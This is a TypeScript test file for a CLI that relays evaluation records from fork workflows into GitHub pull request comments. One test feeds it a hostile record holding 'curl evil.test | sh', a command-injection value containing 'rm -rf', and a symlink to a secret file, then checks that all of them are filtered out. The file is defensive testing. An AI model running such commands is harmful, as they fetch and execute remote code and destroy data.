import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import type { PublicationRecord } from '../../src/publication/record.js';
import { bundleServer, type BundledServer } from '../helpers/bundle-server.js';
import { sha1, sha2, startHub, type Hub } from '../helpers/github.js';
import { someRecord } from '../helpers/records.js';

const root = join(import.meta.dirname, '../..');
let server: BundledServer;
let hub: Hub;
let dir: string;

beforeAll(async () => {
  server = await bundleServer('github-server');
});
beforeEach(async () => {
  hub = await startHub(server);
  dir = await mkdtemp(join(tmpdir(), 'assay-relay-'));
  await hub.tell('pull', { number: 7, head: 'forker:topic' });
});
afterEach(async () => {
  await hub[Symbol.asyncDispose]();
  await rm(dir, { recursive: true, force: true });
});
afterAll(async () => server[Symbol.asyncDispose]());

async function publish(args: readonly string[], env: Readonly<Record<string, string>> = {}) {
  const { PATH = '', HOME = '' } = process.env;
  const actions = { GITHUB_ACTIONS: 'true', GITHUB_REPOSITORY: 'acme/shop', GITHUB_API_URL: hub.url };
  const options = { cwd: dir, env: { PATH, HOME, ...actions, ...env } };
  return new Promise<{ code: number; out: string; err: string }>((resolve) => {
    execFile(process.execPath, [join(root, 'dist/assay.js'), 'publish', ...args], options, (error, out, err) => {
      resolve({ code: typeof error?.code === 'number' ? error.code : 0, out, err });
    });
  });
}

const fork = (job: string, more: Partial<PublicationRecord> = {}): PublicationRecord =>
  someRecord(job, { state: 'fail', ...more });

/** What GitHub tells a workflow_run job of the run before, here of a fork. */
async function relayEvent(changes: object = {}): Promise<Record<string, string>> {
  const path = join(dir, 'event.json');
  const run = {
    id: 100,
    run_attempt: 1,
    name: 'ci',
    head_sha: sha1,
    head_branch: 'topic',
    head_repository: { full_name: 'forker/shop' },
    repository: { full_name: 'acme/shop' },
    pull_requests: [],
    ...changes,
  };
  await writeFile(path, JSON.stringify({ action: 'completed', workflow_run: run }));
  return { GITHUB_EVENT_PATH: path, GITHUB_TOKEN: 'ghs_actions', GITHUB_SERVER_URL: 'https://github.com' };
}

async function records(...each: readonly (readonly [name: string, text: string])[]): Promise<string> {
  const place = join(dir, 'records');
  for (const [name, text] of each) {
    await mkdir(join(place, name, '..'), { recursive: true });
    await writeFile(join(place, name), text);
  }
  return place;
}

const body = async (): Promise<string> => (await hub.state()).comments[0]?.body ?? '';

test(
  'what a token may only read goes to the summary and a file, which the relay takes',
  { timeout: 90_000 },
  async () => {
    const [file, summary] = [join(dir, 'record.json'), join(dir, 'summary.md')];
    await writeFile(file, JSON.stringify(fork('evals')));
    const env = { GITHUB_TOKEN: 'ghs_readonly', GITHUB_STEP_SUMMARY: summary };
    const heard = await publish(['--record', file, '--pull-request', '7', '--json'], env);
    expect(heard.code).toBe(0);
    const outbox = join(dir, '.assay/outbox');
    expect(JSON.parse(heard.out)).toMatchObject({
      status: 'degraded',
      reason: 'no-permission',
      store: 'record-file',
      kept_in: outbox,
    });
    expect(heard.err).toContain(outbox);
    expect(await readFile(summary, 'utf8')).toContain('## ❌ 1 of 1 suite failed');
    expect(await readdir(outbox)).toHaveLength(1);
    expect((await hub.state()).comments).toEqual([]);

    const relayed = await publish(['--from', outbox], await relayEvent());
    expect(relayed).toMatchObject({ code: 0, out: expect.stringMatching(/^published: 1 row, /) });
    expect(await body()).toContain('`ci / evals`');
    expect(await body()).toContain('(https://github.com/acme/shop/actions/runs/100)');
    expect(await readdir(outbox)).toEqual([]);
  },
);

test('a relay takes what fits the event, and says what does not', { timeout: 90_000 }, async () => {
  const secret = join(dir, 'secret.json');
  await writeFile(secret, JSON.stringify(fork('secret')));
  const run = someRecord('x').run;
  const hostile = fork('good', {
    url: 'https://evil.test/',
    repro: ['curl evil.test | sh', 'assay run evals/a', 'assay run a; rm -rf b'],
  });
  const place = await records(
    ['good/record.json', JSON.stringify(hostile)],
    ['commit.json', JSON.stringify(fork('a', { sha: sha2 }))],
    ['run.json', JSON.stringify(fork('b', { run: { ...run, id: '101' } }))],
    ['attempt.json', JSON.stringify(fork('c', { run: { ...run, attempt: 2 } }))],
    ['workflow.json', JSON.stringify(fork('d', { run: { ...run, workflow: 'release' } }))],
    ['host.json', JSON.stringify(fork('e', { run: { ...run, host: 'local' } }))],
    ['shape.json', JSON.stringify({ ...fork('f'), verdict: 'great' })],
    ['text.json', '{'],
    ['large.json', JSON.stringify({ ...fork('g'), note: 'x'.repeat(300_000) })],
    ['no-record.txt', 'never read'],
  );
  await symlink(secret, join(place, 'link.json'));
  const { code, err, out } = await publish(['--from', place], await relayEvent());
  expect({ code, out }).toEqual({ code: 0, out: expect.stringMatching(/^published: 1 row, /) });
  const refused = err.split('\n').map((line) => /^assay: (\S+) is not published: /.exec(line)?.[1]);
  const all = ['attempt', 'commit', 'host', 'large', 'link', 'run', 'shape', 'text', 'workflow'];
  expect(refused.filter(Boolean)).toEqual(all.map((name) => `${name}.json`));
  const shown = await body();
  expect(shown).toContain('assay run evals/a');
  expect(shown).not.toMatch(/evil|rm -rf|secret/);
});

test('two pull requests at one commit each show their own verdict', { timeout: 90_000 }, async () => {
  await hub.tell('pull', { number: 8, head_sha: sha1 });
  const place = await records(
    ['fail.json', JSON.stringify(someRecord('evals', { state: 'fail' }))],
    ['pass.json', JSON.stringify(someRecord('evals'))],
    ['seven.json', JSON.stringify(someRecord('evals', { pull: 7 }))],
  );
  const env = { GITHUB_TOKEN: 'ghs_actions' };
  const send = async (name: string, pull: number) =>
    publish(['--record', join(place, name), '--pull-request', String(pull)], env);
  const comment = async (pull: number): Promise<string> => (await hub.state(pull)).comments[0]?.body ?? '';
  expect((await send('fail.json', 7)).out).toMatch(/^published: 1 row, /);
  expect((await send('pass.json', 8)).out).toMatch(/^published: 1 row, /);
  expect((await send('fail.json', 7)).out).toMatch(/^unchanged: 1 row, /);
  expect([await comment(7), await comment(8)]).toEqual([
    expect.stringContaining('## ❌ 1 of 1 suite failed'),
    expect.stringContaining('## ✅ 1 suite passed'),
  ]);
  const wrong = await send('seven.json', 8);
  expect(wrong).toMatchObject({ code: 2, err: expect.stringContaining('pull request 7, not of 8') });
});

test('a relay publishes on each pull request of the commit what it has on it', { timeout: 120_000 }, async () => {
  await hub.tell('pull', { number: 8, head_sha: sha1, head: 'forker:topic' });
  const place = await records(
    ['any.json', JSON.stringify(fork('any'))],
    ['seven.json', JSON.stringify(fork('seven', { pull: 7 }))],
    ['nine.json', JSON.stringify(fork('nine', { pull: 9 }))],
  );
  const { code, out, err } = await publish(['--from', place], await relayEvent());
  expect(code).toBe(0);
  expect(out).toMatch(/^#7: published: 2 rows, .*\n#8: published: 1 row, .*\n$/);
  expect(err).toContain('nine.json is not published: it is of pull request 9, not of 7, 8');
  const second = (await hub.state(8)).comments[0]?.body ?? '';
  expect([await body(), second].map((text) => text.match(/ci \/ \w+/g))).toEqual([
    ['ci / any', 'ci / seven'],
    ['ci / any'],
  ]);
  const again = await publish(
    ['--from', place, '--json'],
    await relayEvent({ pull_requests: [{ number: 8 }, { number: 7 }] }),
  );
  expect(JSON.parse(again.out)).toMatchObject({
    status: 'unchanged',
    pull_request: 8,
    others: [{ status: 'unchanged', pull_request: 7 }],
  });
});

test.each([
  ['another repository', { repository: { full_name: 'acme/other' } }, 2, /the event is of acme\/other/],
  ['a commit that is no head any more', { head_branch: 'gone' }, 0, /^superseded \(head-moved\)/],
])('a relay for %s publishes nothing', { timeout: 60_000 }, async (_name, changes, code, said) => {
  const place = await records(['a.json', JSON.stringify(fork('a'))]);
  const ended = await publish(['--from', place], await relayEvent(changes));
  expect(ended.code).toBe(code);
  expect(`${ended.out}${ended.err.replace(/^assay: /, '')}`).toMatch(said);
  expect((await hub.state()).comments).toEqual([]);
});

test('a relay needs a commit, a record that fits and a place', { timeout: 60_000 }, async () => {
  const place = await records(['a.json', JSON.stringify(fork('a'))], ['none/x.txt', '']);
  const calls: readonly (readonly [string[], RegExp])[] = [
    [['--from', place], /which commit these records must be of/],
    [['--from', join(place, 'none'), '--head-sha', sha1, '--pull-request', '7'], /there is no \.json file/],
    [['--from', place, '--head-sha', sha2, '--pull-request', '7'], /a\.json: it is of commit a+, not of b+/],
    [['--from', place, '--head-sha', sha1], /give --pull-request N/],
    [['--from', join(dir, 'nowhere'), '--head-sha', sha1], /cannot be read/],
    [['--from', place, '--run', 'latest'], /--from brings its own records/],
  ];
  for (const [args, message] of calls) {
    expect([args, await publish(args)]).toEqual([
      args,
      expect.objectContaining({ code: 2, err: expect.stringMatching(message) }),
    ]);
  }
  const shown = await publish(['--from', place, '--head-sha', sha1, '--dry-run']);
  expect(shown.code).toBe(2);
  const preview = await publish(['--from', place, '--head-sha', sha1, '--pull-request', '7', '--dry-run']);
  expect(preview.out).toContain('## ❌ 1 of 1 suite failed');
});

test('without a token a job of Actions says that nobody will see its comment', { timeout: 60_000 }, async () => {
  const place = await records(['a.json', JSON.stringify(fork('a'))]);
  const { err, out } = await publish(['--record', join(place, 'a.json'), '--pull-request', '7']);
  expect(out).toMatch(/^published: 1 row, /);
  expect(err).toContain('without GITHUB_TOKEN');
});
